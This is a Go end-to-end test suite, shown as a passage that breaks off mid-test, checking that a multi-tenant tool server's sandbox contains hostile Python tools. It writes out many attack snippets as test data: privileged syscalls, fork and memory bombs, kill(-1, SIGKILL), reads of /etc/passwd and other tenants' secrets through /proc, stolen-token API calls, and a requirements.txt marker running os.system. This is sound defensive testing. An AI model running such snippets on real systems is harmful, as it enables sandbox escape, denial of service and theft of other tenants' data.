package main

// The end-to-end hostile-tool suite of issue 9: tenants' Python tools are
// untrusted, and here they attack through every door a user has, with the
// real binary, real sandboxes and real HTTP on loopback:
//
//   - the server with two tenants (TestHostileServer): tenant A's tools
//     (testdata/hostile_e2e/attack.yaml, plus the tools of
//     core/runner/testdata/hostile/hostile.py) attack the host, the server
//     and tenant B (testdata/hostile_e2e/victim.yaml), through /v1/calls and
//     through A's sessions (/v1/sessions/ID/calls);
//   - `toolhost call` (TestHostileCallCommand), cpython;
//   - `toolhost session` (TestHostileSessionCommand), cpython and gpython,
//     with the session's next input lines on the tool's doorstep and
//     another session running beside it.
//
// Each attack asserts containment and the error the user sees (HTTP status
// or exit code, error kind, type and message), and that the next call still
// works: after every server attack tenant B's call answers with its own
// correct output from the same plugin process, its scratch intact, and A's
// own next call works.
//
// The classes of issue 9 and the attacks of this file (new: N; the same
// vector as a runner test through another door: =):
//
//  1. requirements.txt interpreted on the host: -r HOST_FILE, --index-url
//     to a listener of the test, NAME @ URL, a local source tree (PEP 517
//     build on the host), a marker holding code (N×5; each an Invalid group
//     with the file's line:col, a call refused with 409, nothing fetched).
//  2. file metadata: chmod 000 of the toolhost binary (=, the host's mode
//     checked), a setuid-root copy of the interpreter (N), chmod of the
//     database by its host path (N), utime of the group's files (=).
//  3. host paths and services: the database (N), the data folder (N),
//     tenant B's uploaded files by their blob path (N), B's scratch through
//     /proc/PID/root (N), B's plugin socket (N), the server's API on
//     loopback with A's token (N) and through slirp's host gateway with B's
//     token (N), the server's listener in /proc/net/tcp (=), host paths,
//     tenant names, tokens or B's session variables anywhere a tool can
//     read (/proc/*/cmdline, environ, mountinfo: N), the pids cgroup
//     mounted in the sandbox (N), the minimal world itself (=, the
//     precondition of every other attack).
//  4. the host's stdin: sys.stdin and fd 0 over HTTP (=), pidfd_getfd of
//     the plugin process's fd 0 (N), `toolhost call` with a secret on its
//     stdin (N), `toolhost session`'s next input lines, cpython (N) and
//     gpython (N).
//  5. the kernel surface: clone with CLONE_NEWUSER, clone3, unshare,
//     setns, io_uring_setup, process_vm_readv, ptrace, bpf,
//     perf_event_open, userfaultfd, keyctl, an AF_PACKET socket (N×12).
//  6. memory, disk, pids, CPU: a memfd bomb past the sandbox's memory
//     cgroup (=, over HTTP with B beside it), scratch full in bytes (=),
//     /dev/shm full (N), scratch full in inodes (=), a thread bomb (N), a
//     fork bomb (=), a memory bomb (=), four processes spinning while B is
//     served (N).
//  7. the worker protocol: an extra answer frame, with and without a forged
//     request id (=), limits patched for a 40 MB answer (=), a forged
//     call_tool depth (=), a forged call_tool session over HTTP sessions
//     (N: the nested call runs in the caller's session), an extra answer
//     that would hand the next session the previous one's answer (N).
//  8. leftovers: a spying thread that outlives its call while B and
//     another session are called (=), a daemon that double-forks into a
//     session of its own (N: its pid is dead by the next call), kill(-1,
//     SIGKILL) from tool code (N: only A's own sandbox dies, B's plugin
//     process keeps its pid), a signal to B's plugin process by its host
//     pid (N), the plugin process's memory (=).
//  9. duplicate JSON keys: in a session call body (N: 400), in `toolhost
//     call`'s arguments (N: exit 2), in a `toolhost session` line (N). The
//     top-level and nested duplicate keys of /v1/calls and the slow body
//     (408) are TestServerRequestBodies' (bodies_test.go).
//
// gpython (`toolhost session --runtime gpython`): open() refused (N),
// imports limited (=), sys.exit (=), sys.stdin at EOF with the next lines
// still read (N, class 4), endless recursion (=), an endless loop cut by
// its timeout (=).
//
// Also new: the group's host folder and the caller's stdin under
// `toolhost call`; /proc/PPID/fd/0 and another `toolhost session` running
// beside (its --var) under `toolhost session`.
//
// Count: 47 new attacks in this file (class 1: 5, 2: 2, 3: 9, 4: 6 with
// the command-line doors, 5: 12, 6: 3, 7: 2, 8: 3, 9: 3, gpython: 2), beside
// 74 distinct attacks of the runner's unit tests (TestMinimalWorld 29,
// TestNetworkPolicy 8, TestSandboxResources 3, TestCloneParentIsSwept 1,
// TestHostileToolsAreContained 13, TestHostDoesNotTrustTheWorker 11,
// TestGPythonSystemExitAndStdin 5, TestGPythonTimeoutReplacesProcess 4):
// 121 distinct attacks, over the 45 the acceptance bar asks for.

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// hostileDir holds the attack groups; hostilePy is the runner's hostile
// tools, uploaded as they are.
var (
	hostileDir = filepath.Join("testdata", "hostile_e2e")
	hostilePy  = filepath.Join("..", "..", "runner", "testdata", "hostile", "hostile.py")
)

// answer is what a user sees of one call: the JSON of /v1/calls and of a
// session call, of `toolhost call` on stdout, of one line of `toolhost
// session`; or a problem (4xx) with its detail.
type answer struct {
	Success bool            `json:"success"`
	Content json.RawMessage `json:"content"`
	Error   *struct {
		Kind    string `json:"kind"`
		Type    string `json:"type"`
		Message string `json:"message"`
	} `json:"error"`
	Detail string `json:"detail"`
}

// seen is the part of an answer an expectation is matched against: the
// content (compacted) of a success, "Type: message" of a failure.
func (a answer) seen() string {
	if a.Error != nil {
		return a.Error.Type + ": " + a.Error.Message
	}
	var b bytes.Buffer
	if json.Compact(&b, a.Content) != nil {
		return string(a.Content)
	}
	return b.String()
}

// expect is the outcome an attack must have: an HTTP status (0: 200), the
// error kind the user sees ("" for a success) and a part of what is seen
// (|-separated alternatives).
type expect struct {
	status int
	kind   string
	want   string
}

func (e expect) check(t *testing.T, code int, a answer) {
	t.Helper()
	status := e.status
	if status == 0 {
		status = 200
	}
	switch {
	case code != status:
		t.Errorf("status %d, want %d: %+v %s", code, status, a, a.seen())
	case status != 200:
		if !oneOf(a.Detail, e.want) {
			t.Errorf("problem %q, want one containing %q", a.Detail, e.want)
		}
	case e.kind == "":
		if !a.Success || !oneOf(a.seen(), e.want) {
			t.Errorf("THE ATTACK GOT THROUGH or failed otherwise: want a result containing %q, got %.400s", e.want, a.seen())
		}
	case a.Success:
		t.Errorf("THE ATTACK GOT THROUGH: it succeeded with %.400s", a.seen())
	case a.Error == nil || a.Error.Kind != e.kind || !oneOf(a.seen(), e.want):
		t.Errorf("error %+v, want kind %s containing %q", a.Error, e.kind, e.want)
	default:
		t.Logf("%s: %.300s", a.Error.Kind, a.seen())
	}
}

// oneOf reports whether s contains one of the |-separated parts.
func oneOf(s, parts string) bool {
	for _, p := range strings.Split(parts, "|") {
		if strings.Contains(s, p) {
			return true
		}
	}
	return false
}

// snippet is the arguments of the attack tool: Python that sets out.
func snippet(code string) string {
	b, _ := json.Marshal(map[string]string{"code": code})
	return string(b)
}

// call posts a call as a tenant and returns the status and the answer.
func (s *server) call(token, path, tool, args string) (int, answer) {
	s.t.Helper()
	if args == "" {
		args = "{}"
	}
	var a answer
	code := s.do(token, "POST", path, strings.NewReader(`{"tool":`+strconv.Quote(tool)+`,"arguments":`+args+`}`), &a)
	return code, a
}

// hostileWorld is one server, tenant A (the attacker) and tenant B (the
// victim), shared by the server's attacks.
type hostileWorld struct {
	t          *testing.T
	s          *server
	tokA, tokB string
	port       string
	// bPID is the host pid of B's plugin process; bSecret is in its scratch.
	bPID    int
	bSecret string
	n       int
}

// victimStillWorks: B's call answers from the same plugin process with its
// own output, its scratch intact; A's own next call works.
func (w *hostileWorld) victimStillWorks(t *testing.T) {
	t.Helper()
	w.n++
	code, a := w.s.call(w.tokB, "/v1/calls", "recall", fmt.Sprintf(`{"x":%d}`, w.n))
	var got struct {
		X    int    `json:"x"`
		Kept string `json:"kept"`
	}
	json.Unmarshal(a.Content, &got)
	if code != 200 || !a.Success || got.X != w.n || got.Kept != w.bSecret {
		t.Errorf("tenant B's call after the attack: %d %s", code, a.seen())
	}
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/root/tmp/victim-secret.txt", w.bPID)); err != nil || string(b) != w.bSecret {
		t.Errorf("tenant B's plugin process %d or its scratch did not survive the attack: %q %v", w.bPID, b, err)
	}
	if code, a := w.s.call(w.tokA, "/v1/calls", "ok", `{"x":7}`); code != 200 || !a.Success || a.seen() != `{"still":"here","x":7}` {
		t.Errorf("tenant A's next call after the attack: %d %s", code, a.seen())
	}
}

// serverAttack is one attack of tenant A through /v1/calls.
type serverAttack struct {
	name string
	tool string // "" runs code with the attack tool
	code string
	args string
	out  expect
	// rootless, when set, is what a rootless server answers instead:
	// contained otherwise, or a limit it says is missing (rootless_test.go).
	rootless *expect
	after    func(t *testing.T) // further containment checks
}

// TestHostileServer: tenant A's tools attack the host, the server and
// tenant B through one real server; see the file's comment.
func TestHostileServer(t *testing.T) {
	data := t.TempDir()
	tokA, tokB := tenant(t, data, "acme"), tenant(t, data, "beta")
	addr := freePort(t)
	_, port, _ := net.SplitHostPort(addr)
	// Two workers of 256 MiB: a sandbox's memory cgroup allows 1 GiB.
	s := startServer(t, data, addr, "--memory-mb", "256", "--workers", "2")
	w := &hostileWorld{t: t, s: s, tokA: tokA, tokB: tokB, port: port, bSecret: "b-secret-" + strconv.Itoa(os.Getpid())}
	// As root the server warns of nothing missing; rootless, of exactly
	// its identity and its limits (rlimits in place of cgroups).
	defer func() {
		if msg := sandboxMissing(s.errs.String()); msg != "" {
			t.Errorf("THE SANDBOX IS MISSING: toolhost serve runs tool code without it:\n%s", msg)
		}
		if rootless() && !strings.Contains(s.errs.String(), "memory cgroup") {
			t.Errorf("a rootless server does not say that the sandboxes have no memory cgroup:\n%s", s.errs.String())
		}
	}()

	// A listener that counts what the host fetches for tenants.
	addr, fetched := countingListener(t)
	listener := "http://" + addr

	s.upload(tokA, hostileDir, "attack.py")
	hp, err := os.ReadFile(hostilePy)
	if err != nil {
		t.Fatal(err)
	}
	if code := s.do(tokA, "PUT", "/v1/files/hostile.py", bytes.NewReader(hp), nil); code != 200 {
		t.Fatalf("upload hostile.py: %d", code)
	}
	s.upload(tokB, hostileDir, "victim.py")
	for _, g := range []struct{ token, file string }{{tokA, "attack.yaml"}, {tokB, "victim.yaml"}} {
		b, _ := os.ReadFile(filepath.Join(hostileDir, g.file))
		if code := s.do(g.token, "POST", "/v1/groups", bytes.NewReader(b), nil); code != 200 && code != 201 {
			t.Fatalf("group %s: %d", g.file, code)
		}
	}
	reqYAML := "kind: Plugin\nname: Req\ndescription: d\ndependencies: [attack.py, requirements.txt]\n" +
		"tools:\n  - {kind: Tool, object_name: ReqOk, name: req_ok, description: d, implementation: attack.ok, parameters: []}\n"
	if code := s.do(tokA, "PUT", "/v1/files/requirements.txt", strings.NewReader("# nothing\n"), nil); code != 200 {
		t.Fatalf("requirements.txt: %d", code)
	}
	if code := s.do(tokA, "POST", "/v1/groups", strings.NewReader(reqYAML), nil); code != 200 && code != 201 {
		t.Fatalf("group Req: %d", code)
	}
	s.waitStatus(tokA, "Attack", "Ready")
	s.waitStatus(tokA, "Req", "Ready")
	s.waitStatus(tokB, "Victim", "Ready")
	for _, g := range []struct{ token, file string }{{tokA, "attacker_agent.yaml"}, {tokB, "victim_agent.yaml"}} {
		b, _ := os.ReadFile(filepath.Join(hostileDir, g.file))
		if code := s.do(g.token, "POST", "/v1/agents", bytes.NewReader(b), nil); code != 201 {
			t.Fatalf("agent %s: %d", g.file, code)
		}
	}

	// Tenant B keeps a secret in its scratch, and one in a session.
	if code, a := s.call(tokB, "/v1/calls", "remember", `{"secret":"`+w.bSecret+`"}`); code != 200 || !a.Success {
		t.Fatalf("B remembers: %d %s", code, a.seen())
	}
	bVar := "b-session-variable-" + strconv.Itoa(os.Getpid())
	var bSess struct {
		ID string `json:"id"`
	}
	if code := s.do(tokB, "POST", "/v1/sessions", strings.NewReader(`{"agent":"Victim Agent","variables":{"Secret":"`+bVar+`"}}`), &bSess); code != 201 {
		t.Fatalf("B's session: %d", code)
	}
	if code, a := s.call(tokB, "/v1/sessions/"+bSess.ID+"/calls", "Recall", `{"x":0}`); code != 200 || !strings.Contains(a.seen(), bVar) {
		t.Fatalf("B's session call: %d %s", code, a.seen())
	}
	// The host's view of B: its plugin process (the one whose root holds
	// B's secret), its plugin socket, one of its uploaded files.
	for _, p := range descendantsOf(s.cmd.Process.Pid) {
		if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/root/tmp/victim-secret.txt", p)); err == nil && string(b) == w.bSecret {
			cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", p))
			if strings.Contains(string(cmd), "pyhost") {
				w.bPID = p
			}
		}
	}
	if w.bPID == 0 {
		t.Fatal("tenant B's plugin process is not found under the server")
	}
	bSock := ""
	if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/net/unix", w.bPID)); err == nil {
		for _, f := range strings.Fields(string(b)) {
			if strings.HasPrefix(f, "/") {
				bSock = f
			}
		}
	}
	if bSock == "" {
		t.Fatal("tenant B's plugin socket is not found")
	}
	bBlob := ""
	victimPy, _ := os.ReadFile(filepath.Join(hostileDir, "victim.py"))
	filepath.WalkDir(filepath.Join(data, "blobs"), func(p string, d os.DirEntry, err error) error {
		if b, rerr := os.ReadFile(p); err == nil && !d.IsDir() && rerr == nil && bytes.Equal(b, victimPy) {
			bBlob = p
		}
		return nil
	})
	if bBlob == "" {
		t.Fatal("tenant B's victim.py is not found in the data folder")
	}
	db := filepath.Join(data, "toolhost.db")
	mode := func(p string) os.FileMode {
		st, err := os.Stat(p)
		if err != nil {
			t.Fatalf("stat %s: %v", p, err)
		}
		return st.Mode()
	}
	binMode, dbMode := mode(bin), mode(db)

	// Class 1: requirements.txt is read by toolhost, never by pip on the
	// host. Each file makes Req Invalid at its line:col, and Req's calls
	// are refused; nothing is fetched (checked at the end).
	reqs := []struct{ name, file, want string }{
		{"requirements -r host file", "-r /etc/passwd\n", `1:1: "-r /etc/passwd": options are not allowed`},
		{"requirements --index-url to the host", "tiny==1.0\n--index-url " + listener + "/simple\n", "2:1: \"--index-url " + listener + "/simple\": options are not allowed"},
		{"requirements NAME @ URL", "evil @ " + listener + "/evil-1.0-py3-none-any.whl\n", `1:6: "evil @ ` + listener},
		{"requirements local source tree", "./evil_src\n", `1:1: "./evil_src": paths are not allowed in requirements.txt (pip would build the folder or file it names on the host)`},
		{"requirements marker with code", "evil>=1 ; python_version > \"3\" and os.system(\"id\")\n", `unknown marker variable "os.system"`},
	}
	for _, r := range reqs {
		t.Run(r.name, func(t *testing.T) {
			if code := s.do(tokA, "PUT", "/v1/files/requirements.txt", strings.NewReader(r.file), nil); code != 200 {
				t.Fatalf("upload: %d", code)
			}
			var view groupStatus
			s.do(tokA, "GET", "/v1/groups/Req", nil, &view)
			if view.Status != "Invalid" || len(view.Errors) != 1 || view.Errors[0].File != "requirements.txt" {
				t.Fatalf("THE FILE WAS NOT REFUSED: %+v", view)
			}
			e := view.Errors[0]
			if got := fmt.Sprintf("%d:%d: %s", e.Line, e.Column, e.Message); !strings.Contains(got, r.want) || strings.Contains(got, "root:x:0") {
				t.Errorf("error %q, want one containing %q (and nothing of the host's files)", got, r.want)
			}
			// The generation that was Ready keeps serving, on its own files.
			var p answer
			if code := s.do(tokA, "POST", "/v1/calls", strings.NewReader(`{"tool":"req_ok"}`), &p); code != 200 || view.Serving == nil {
				t.Errorf("a call while the refused generation is Invalid: %d %+v (serving %+v)", code, p, view.Serving)
			}
			w.victimStillWorks(t)
		})
	}

	py := func(format string, a ...any) string { return fmt.Sprintf(format, a...) }
	q := strconv.Quote
	// sc(nr, args...) is attack.py's raw system call.
	const eperm = "PermissionError: [Errno 1] Operation not permitted"
	const enosys = "Function not implemented"
	secrets := []string{data, "acme", "beta", tokA, tokB, bVar, w.bSecret}
	secretsPy, _ := json.Marshal(secrets)
	attacks := []serverAttack{
		// The precondition of every other attack: tool code runs in the
		// sandbox, as uid 1000 without capabilities, in a minimal root.
		{name: "the minimal world",
			code: "import os\nallowed = {'.toolhost', 'bin', 'dev', 'etc', 'group', 'lib', 'lib64', 'proc', 'root', 'run', 'tmp', 'usr'}\n" +
				"out = [os.getuid(), [l.split()[1] for l in open('/proc/self/status') if l.startswith('CapEff')], sorted(set(os.listdir('/')) - allowed)]",
			out: expect{want: `[1000,["0000000000000000"],[]]`}},
		// Class 2: file metadata.
		{name: "chmod 000 of the toolhost binary", code: "import os; os.chmod('/.toolhost/toolhost', 0)",
			out: expect{kind: "exception", want: "Read-only file system"},
			after: func(t *testing.T) {
				if m := mode(bin); m != binMode {
					t.Errorf("the toolhost binary's mode is %v, was %v", m, binMode)
				}
			}},
		{name: "setuid-root copy of the interpreter",
			code: "import os, shutil, sys\ntry:\n    shutil.copy(sys.executable, '/tmp/py')\n    os.chmod('/tmp/py', 0o4755)\n    os.chown('/tmp/py', 0, 0)\nfinally:\n    os.remove('/tmp/py')",
			out:  expect{kind: "exception", want: eperm},
			// Rootless, the sandbox has no id 0 to give a file.
			rootless: &expect{kind: "exception", want: "[Errno 22] Invalid argument"}},
		{name: "chmod of the database by its host path", code: py("import os; os.chmod(%s, 0o666)", q(db)),
			out: expect{kind: "exception", want: "FileNotFoundError"},
			after: func(t *testing.T) {
				if m := mode(db); m != dbMode {
					t.Errorf("the database's mode is %v, was %v", m, dbMode)
				}
			}},
		{name: "utime of the group's files", code: "import os; os.utime('/group/attack.py', (0, 0))",
			out: expect{kind: "exception", want: "Read-only file system|PermissionError"}},
		// Class 3: host paths and services.
		{name: "the database", code: py("out = open(%s, 'rb').read(100)", q(db)), out: expect{kind: "exception", want: "FileNotFoundError"}},
		{name: "the data folder", code: py("import os; out = os.listdir(%s)", q(filepath.Join(data, "roots"))), out: expect{kind: "exception", want: "FileNotFoundError"}},
		{name: "tenant B's uploaded file", code: py("out = open(%s).read()", q(bBlob)), out: expect{kind: "exception", want: "FileNotFoundError"}},
		{name: "tenant B's scratch through /proc/PID/root", code: py("out = open('/proc/%d/root/tmp/victim-secret.txt').read()", w.bPID),
			out: expect{kind: "exception", want: "FileNotFoundError"}},
		{name: "tenant B's plugin socket",
			code: py("import socket\nout = []\nfor p in [%s, %s]:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(p)\n        out.append('connected to ' + p)\n    except OSError as e:\n        out.append(type(e).__name__)",
				q(fmt.Sprintf("/proc/%d/root%s", w.bPID, bSock)), q(bSock)),
			out: expect{want: `["FileNotFoundError","FileNotFoundError"]`}},
		{name: "the server's API on loopback with A's token",
			code: py("import urllib.request\nr = urllib.request.Request('http://127.0.0.1:%s/v1/files', headers={'Authorization': 'Bearer %s'})\nout = urllib.request.urlopen(r, timeout=3).read().decode()", port, tokA),
			out:  expect{kind: "exception", want: "Connection refused"}},
		{name: "the server's API through slirp's host gateway with B's token",
			code: py("import urllib.request\nr = urllib.request.Request('http://10.0.2.2:%s/v1/files', headers={'Authorization': 'Bearer %s'})\nout = urllib.request.urlopen(r, timeout=3).read().decode()", port, tokB),
			out:  expect{kind: "exception", want: "Network is unreachable|No route to host"}},
		{name: "the server's listener in /proc/net/tcp", code: py("out = ':%04X ' in open('/proc/net/tcp').read() + open('/proc/net/tcp6').read()", mustAtoi(port)),
			out: expect{want: "false"}},
		{name: "host paths, tenants, tokens and B's session variables in anything readable",
			code: py("import os\nsecrets = %s\nout = []\nfor p in ['self'] + [p for p in os.listdir('/proc') if p.isdigit()]:\n"+
				"    for f in ('cmdline', 'environ', 'mountinfo'):\n        try:\n            b = open('/proc/%%s/%%s' %% (p, f), 'rb').read().decode('latin-1')\n        except OSError:\n            continue\n"+
				"        # mountinfo names where the read-only binds come from on the host\n"+
				"        # (docs/sandbox.md): the data folder's path, never a tenant, token or value.\n"+
				"        out += ['%%s/%%s names %%s' %% (p, f, s) for s in (secrets[1:] if f == 'mountinfo' else secrets) if s in b]\nfor d, _, files in os.walk('/tmp'):\n    for f in files:\n        b = open(os.path.join(d, f), 'rb').read().decode('latin-1')\n        out += [f + ' names ' + s for s in secrets if s in b]",
				secretsPy),
			out: expect{want: "[]"}},
		// The data channel between the core and the plugin process is a
		// socketpair: no worker inherits it, the plugin's descriptors are
		// out of reach, and no host socket is mounted in the sandbox.
		{name: "the plugin's data channel and the host's sockets",
			code: "import os\nout = []\nfor fd in os.listdir('/proc/self/fd'):\n    try:\n        if os.readlink('/proc/self/fd/' + fd).startswith('socket:'):\n            out.append(fd)\n    except OSError:\n        pass\nout = [out]\n" +
				"try:\n    out.append(len(os.listdir('/proc/%d/fd' % os.getppid())))\nexcept OSError as e:\n    out.append(type(e).__name__)\n" +
				"out.append([d for d in os.listdir('/run') if d not in ('plugin', 'cgroup', 'cgroup-memory')])",
			out: expect{want: `[[],"PermissionError",[]]`}},
		{name: "raise the pids limit through the cgroup in the sandbox", code: "open('/run/cgroup/pids.max', 'w').write('max')",
			// Mounted read-only but for cgroup.procs (landlock refuses too).
			out: expect{kind: "exception", want: "Read-only file system"},
			// Rootless on cgroup v1, no cgroup is there to raise.
			rootless: &expect{kind: "exception", want: "FileNotFoundError"}},
		// Class 4: the host's stdin.
		{name: "stdin", code: "import os, sys; out = [sys.stdin.read(), os.read(0, 100).decode()]", out: expect{want: `["",""]`}},
		{name: "pidfd_getfd of the plugin process's stdin", code: "import os; fd = sc(434, os.getppid(), 0); out = os.read(sc(438, fd, 0, 0), 100).decode()",
			out: expect{kind: "exception", want: eperm}},
		// Class 5: the kernel surface (x86_64 numbers).
		{name: "clone with CLONE_NEWUSER", code: "out = sc(56, 0x10000000 | 17, 0, 0, 0, 0)", out: expect{kind: "exception", want: eperm}},
		{name: "clone3", code: "out = sc(435, 0, 0)", out: expect{kind: "exception", want: enosys + "|" + eperm}},
		{name: "unshare of the network", code: "out = sc(272, 0x40000000)", out: expect{kind: "exception", want: eperm}},
		{name: "setns", code: "fd = open('/proc/self/ns/net'); out = sc(308, fd.fileno(), 0)", out: expect{kind: "exception", want: eperm}},
		{name: "io_uring_setup", code: "import ctypes; p = ctypes.create_string_buffer(120); out = sc(425, 8, ctypes.addressof(p))", out: expect{kind: "exception", want: eperm + "|" + enosys}},
		{name: "process_vm_readv of the plugin process", code: "import os; out = sc(310, os.getppid(), 0, 0, 0, 0, 0)", out: expect{kind: "exception", want: eperm}},
		{name: "ptrace of the plugin process", code: "import os; out = sc(101, 16, os.getppid(), 0, 0)", out: expect{kind: "exception", want: eperm}},
		{name: "bpf", code: "out = sc(321, 0, 0, 0)", out: expect{kind: "exception", want: eperm + "|" + enosys}},
		{name: "perf_event_open", code: "out = sc(298, 0, 0, -1, -1, 0)", out: expect{kind: "exception", want: eperm + "|" + enosys}},
		{name: "userfaultfd", code: "out = sc(323, 0)", out: expect{kind: "exception", want: eperm + "|" + enosys}},
		{name: "keyctl", code: "out = sc(250, 0, 0, 0)", out: expect{kind: "exception", want: eperm + "|" + enosys}},
		{name: "AF_PACKET socket", code: "import socket; socket.socket(17, socket.SOCK_RAW, 0)", out: expect{kind: "exception", want: "Address family not supported|" + eperm}},
		// Class 6: memory, disk, pids and CPU.
		{name: "memfd bomb past the sandbox's memory",
			code: "import os\nfds = []\nfor i in range(48):\n    fds.append(os.memfd_create('x'))\n    os.write(fds[-1], b'x' * (32 << 20))\nout = len(fds)",
			out:  expect{kind: "crash", want: "reached its memory limit of 1024 MiB"},
			// Rootless on cgroup v1 there is no memory cgroup: memfd pages
			// count in no rlimit but the file size of each. The server said
			// so at start (checked below); B is still served (after).
			rootless: &expect{want: "48"}},
		{name: "scratch full in bytes",
			code: "import os\ntry:\n    for i in range(10):\n        with open('/tmp/fill%d' % i, 'wb') as f:\n            f.write(b'x' * (60 << 20))\nfinally:\n    for i in range(10):\n        if os.path.exists('/tmp/fill%d' % i):\n            os.remove('/tmp/fill%d' % i)",
			out:  expect{kind: "exception", want: "No space left on device"}},
		{name: "/dev/shm full",
			code: "import os\ntry:\n    with open('/dev/shm/fill', 'wb') as f:\n        for i in range(20):\n            f.write(b'x' * (30 << 20))\nfinally:\n    os.remove('/dev/shm/fill')",
			out:  expect{kind: "exception", want: "No space left on device|File too large"}},
		{name: "scratch full in inodes",
			code: "import os, shutil\ntry:\n    os.makedirs('/tmp/many')\n    for i in range(20000):\n        open('/tmp/many/%d' % i, 'w').close()\nfinally:\n    shutil.rmtree('/tmp/many')",
			out:  expect{kind: "exception", want: "No space left on device"}},
		{name: "thread bomb", code: "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()",
			out: expect{kind: "exception", want: "can't start new thread"}},
		{name: "fork bomb", tool: "fork_bomb", out: expect{kind: "exception", want: "Resource temporarily unavailable"}},
		{name: "memory bomb", tool: "eat_memory", out: expect{kind: "exception", want: "MemoryError: out of memory: a worker may use 256 MiB (--memory-mb)"}},
		// Class 7: the worker protocol.
		{name: "extra answer frame", tool: "extra_answer", out: expect{kind: "crash", want: "does not belong to the call to hostile.extra_answer; it was replaced"}},
		{name: "extra answer frame with a forged request id", tool: "extra_answer", args: `{"forge_id":true}`,
			out: expect{kind: "crash", want: "does not belong to the call to hostile.extra_answer; it was replaced"}},
		{name: "limits patched for a 40 MB answer", tool: "patched_limits", args: `{"mb":40}`,
			out: expect{kind: "result", want: "bytes, more than the limit of"}},
		// The worker claims depth 5, past the limit of 3: the host keeps the
		// depth, and the nested call runs one deep.
		{name: "call_tool with a forged depth", tool: "forged_call_tool", args: `{"depth":5}`, out: expect{want: `"call_depth":1`}},
		// Class 8: leftovers and signals.
		{name: "daemon in a session of its own", // its pid is checked below
			code: "import os, time\nr, w = os.pipe()\nif os.fork() == 0:\n    os.setsid()\n    pid = os.fork()\n    if pid == 0:\n        time.sleep(300)\n    os.write(w, str(pid).encode())\n    os._exit(0)\nout = int(os.read(r, 20))",
			out:  expect{want: "0|1|2|3|4|5|6|7|8|9"}},
		// Everything of the sandbox but the worker and init dies, the plugin
		// process with it, and then the sandbox (init exits with it): on
		// the direct path the worker could answer before that end, hence
		// the wait.
		{name: "kill(-1, SIGKILL)", code: "import os, time; os.kill(-1, 9); time.sleep(10)", out: expect{kind: "crash", want: "killed by signal 9"}},
		{name: "signal to tenant B's plugin process by its host pid", code: py("import os; os.kill(%d, 9)", w.bPID), out: expect{kind: "exception", want: "ProcessLookupError"}},
		{name: "the plugin process's memory", tool: "read_parent", args: `{"what":"mem"}`, out: expect{kind: "exception", want: "PermissionError: [Errno 13] Permission denied"}},
	}
	var daemonPID string
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			tool, args := a.tool, a.args
			if tool == "" {
				tool, args = "attack", snippet(a.code)
			}
			code, got := s.call(tokA, "/v1/calls", tool, args)
			if rootless() && a.rootless != nil {
				a.out = *a.rootless
			}
			a.out.check(t, code, got)
			if a.name == "the minimal world" && t.Failed() {
				t.Fatal("the server runs tool code outside its sandbox: every other attack would be meaningless")
			}
			if a.name == "daemon in a session of its own" {
				daemonPID = got.seen()
			}
			if a.after != nil {
				a.after(t)
			}
			w.victimStillWorks(t)
		})
	}
	t.Run("the daemon is gone by the next call", func(t *testing.T) {
		if _, err := strconv.Atoi(daemonPID); err != nil {
			t.Skipf("the daemon attack did not start one: %s", daemonPID)
		}
		code, a := s.call(tokA, "/v1/calls", "attack", snippet("import os\ntry:\n    os.kill("+daemonPID+", 0)\n    out = 'alive'\nexcept ProcessLookupError:\n    out = 'gone'"))
		expect{want: `"gone"`}.check(t, code, a)
	})

	// Four processes spinning in A's sandbox (its CPU quota is one CPU)
	// while B is served: B answers before A's call is cut at 2 s.
	t.Run("CPU starvation", func(t *testing.T) {
		done := make(chan answer, 1)
		go func() {
			// Not s.call: its Fatalf cannot end a test from here, and an
			// answer that never comes must fail the test, not hang it.
			var a answer
			defer func() { done <- a }()
			c := http.Client{Timeout: 60 * time.Second}
			req, _ := http.NewRequest("POST", s.base+"/v1/calls", strings.NewReader(`{"tool":"spin_many"}`))
			req.Header.Set("Authorization", "Bearer "+tokA)
			resp, err := c.Do(req)
			if err != nil {
				a.Detail = "THE CALL HUNG: no answer to A's spin_many within 60 s: " + err.Error()
				return
			}
			defer resp.Body.Close()
			json.NewDecoder(resp.Body).Decode(&a)
		}()
		for i := 0; i < 3; i++ {
			w.victimStillWorks(t)
		}
		select {
		case a := <-done:
			t.Errorf("A's spin ended (%s) before B's calls were answered", a.seen())
		default:
		}
		a := <-done
		if a.Detail != "" {
			t.Fatal(a.Detail)
		}
		expect{kind: "timeout", want: "attack.spin_many did not finish within 2s; its worker was killed"}.check(t, 200, a)
		w.victimStillWorks(t)
	})

	// A thread left by one of A's calls spies on later calls: tenant B's and
	// another session's. The worker is replaced; nothing is seen.
	t.Run("leftover spy thread", func(t *testing.T) {
		code, a := s.call(tokA, "/v1/calls", "leftover_thread", "")
		expect{want: `"thread started"`}.check(t, code, a)
		w.victimStillWorks(t)
		code, a = s.call(tokA, "/v1/calls", "secret", `{"secret":"s3cr3t"}`)
		expect{want: `"kept":6`}.check(t, code, a)
		code, a = s.call(tokA, "/v1/calls", "spied", "")
		expect{want: `""`}.check(t, code, a)
	})

	// Through tenant A's sessions: one session attacks the next.
	sessions := make([]string, 2)
	for i := range sessions {
		var sess struct {
			ID string `json:"id"`
		}
		if code := s.do(tokA, "POST", "/v1/sessions", strings.NewReader(fmt.Sprintf(`{"agent":"Attacker Agent","variables":{"Secret":"session-%d-secret"}}`, i)), &sess); code != 201 {
			t.Fatalf("A's session: %d", code)
		}
		sessions[i] = "/v1/sessions/" + sess.ID + "/calls"
	}
	sessionID := func(i int) string {
		return strings.TrimSuffix(strings.TrimPrefix(sessions[i], "/v1/sessions/"), "/calls")
	}
	t.Run("session: a spy thread reads the next session's variables", func(t *testing.T) {
		code, a := s.call(tokA, sessions[0], "LeftoverThread", "")
		expect{want: `"thread started"`}.check(t, code, a)
		code, a = s.call(tokA, sessions[1], "Secret", `{"secret":"s3cr3t"}`)
		expect{want: `"session-1-secret"`}.check(t, code, a)
		// The spy wrote what it saw; the worker it ran in was replaced
		// after its call, so it saw at most its own session.
		code, a = s.call(tokA, sessions[0], "Spied", "")
